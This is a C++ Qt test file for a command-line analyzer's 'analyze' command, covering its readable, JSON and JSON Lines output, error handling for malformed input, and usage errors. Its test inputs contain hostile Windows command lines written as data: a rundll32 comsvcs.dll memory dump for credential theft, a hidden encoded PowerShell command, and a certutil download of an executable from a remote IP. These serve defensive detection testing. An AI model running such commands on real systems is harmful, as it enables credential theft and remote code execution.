// causa-cli analyze: readable output, --json, --jsonl with bad lines (SPEC §6, §11).
#include "cmdline/commandlineanalyzer.h"
#include "testutils.h"

#include <QTest>

#include <nlohmann/json.hpp>

using namespace causa;

class TestCliAnalyze : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void jsonSingle();
    void readable();
    void jsonLinesWithBadLines();
    void jsonLinesMatchDocument();
    void usageErrors();
};

void TestCliAnalyze::jsonSingle()
{
    const auto r = test::runCli(
        {QStringLiteral("analyze"), QStringLiteral("--json"),
         QStringLiteral(
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 C:\\Windows\\Temp\\dbg.dmp full")});
    QCOMPARE(r.exitCode, 0);
    const auto j = nlohmann::json::parse(r.out.toStdString());
    QCOMPARE(j["verdict"].get<std::string>(), std::string("malicious"));
    QVERIFY(j["flags"]["SuspiciousLolbinExecution"].get<bool>());
    bool cred = false;
    for (const auto &f : j["findings"])
        cred = cred || f["category"] == "credential_access";
    QVERIFY(cred);
}

void TestCliAnalyze::readable()
{
    const auto r = test::runCli(
        {QStringLiteral("analyze"),
         QStringLiteral("powershell -w hidden -enc SQBFAFgAIAAoACcAYQAnACsAJwBiACcAKQA=")});
    QCOMPARE(r.exitCode, 0);
    const QString out = QString::fromUtf8(r.out);
    QVERIFY2(out.contains(QLatin1String("Verdict: ")), qPrintable(out));
    QVERIFY(out.contains(QLatin1String("base64-utf16le")));
    QVERIFY(out.contains(QLatin1String("Decoded: IEX ('ab')")));
    QVERIFY(out.contains(QLatin1String("Findings")));
    QVERIFY(out.contains(QLatin1String("T1564.003")));
}

void TestCliAnalyze::jsonLinesWithBadLines()
{
    QByteArray input;
    input += "\"certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe\"\n";
    input += "not json at all\n";
    input += "42\n";
    input +=
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[\n";
    input += "\"sc query\"\n";
    input += QByteArray("\"") + QByteArray(2 * 1024 * 1024, 'A') + "\"\n";
    input += "\"<script>alert(1)</script>\\u0000\"\n";
    const auto r = test::runCli(
        {QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
    QCOMPARE(r.exitCode, 1); // some lines could not be analysed
    const QList<QByteArray> lines = r.out.trimmed().split('\n');
    QCOMPARE(lines.size(), 7);
    QStringList verdicts;
    for (const QByteArray &l : lines) {
        const auto j = nlohmann::json::parse(l.toStdString());
        QVERIFY(j.is_object());
        verdicts << (j.contains("error") ? QStringLiteral("error")
                                         : QString::fromStdString(j["verdict"].get<std::string>()));
    }
    QCOMPARE(verdicts, QStringList({QStringLiteral("malicious"), QStringLiteral("error"),
                                    QStringLiteral("error"), QStringLiteral("error"),
                                    QStringLiteral("benign"), QStringLiteral("benign"),
                                    QStringLiteral("benign")}));
    QVERIFY(r.out.contains("\"line\":2"));
}

// The stream's objects are the DOM's text (toJson plus "line"), whichever way each input line
// is decoded: plain escapes, \u escapes, non-ASCII bytes, whitespace around the string.
void TestCliAnalyze::jsonLinesMatchDocument()
{
    const QList<nlohmann::json> inputs = {
        "certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe",
        "cmd /c \"echo \\\"quoted\\\" & whoami /all\"\t/b",
        std::string("powershell -c \"Write-Host '\xC3\xA9\xE2\x82\xAC\xF0\x9D\x84\x9E'\"", 38),
        std::string("nul\0inside / slash", 19),
        "",
    };
    QByteArray input;
    for (const nlohmann::json &j : inputs)
        input += QByteArray::fromStdString(j.dump()) + '\n';
    input += "\"a\\/b \\u0041\\ud834\\udd1e\"\n";
    input += "  \"padded\"  \n";
    const QStringList expected = {QString::fromStdString(inputs[0].get<std::string>()),
                                  QString::fromStdString(inputs[1].get<std::string>()),
                                  QString::fromStdString(inputs[2].get<std::string>()),
                                  QString::fromStdString(inputs[3].get<std::string>()),
                                  QString(),
                                  QStringLiteral(u"a/b A\U0001D11E"),
                                  QStringLiteral("padded")};
    const auto r = test::runCli(
        {QStringLiteral("analyze"), QStringLiteral("--jsonl"), QStringLiteral("-")}, input);
    QCOMPARE(r.exitCode, 0);
    const QList<QByteArray> lines = r.out.split('\n');
    QCOMPARE(lines.size(), expected.size() + 1);
    for (qsizetype i = 0; i < expected.size(); ++i) {
        nlohmann::json dom = toJson(sharedCommandLineAnalyzer().analyze(expected[i]));
        dom["line"] = i + 1;
        QCOMPARE(lines[i], QByteArray::fromStdString(
                               dom.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace)));
    }
}

void TestCliAnalyze::usageErrors()
{
    QCOMPARE(test::runCli({QStringLiteral("analyze")}).exitCode, 2);
    QCOMPARE(
        test::runCli({QStringLiteral("analyze"), QStringLiteral("--bogus"), QStringLiteral("x")})
            .exitCode,
        2);
    const auto missing = test::runCli({QStringLiteral("analyze"), QStringLiteral("--jsonl"),
                                       QStringLiteral("/nonexistent/x.jsonl")});
    QCOMPARE(missing.exitCode, 1);
    QVERIFY(missing.err.contains("cannot open"));
}

QTEST_GUILESS_MAIN(TestCliAnalyze)
#include "tst_cli_analyze.moc"
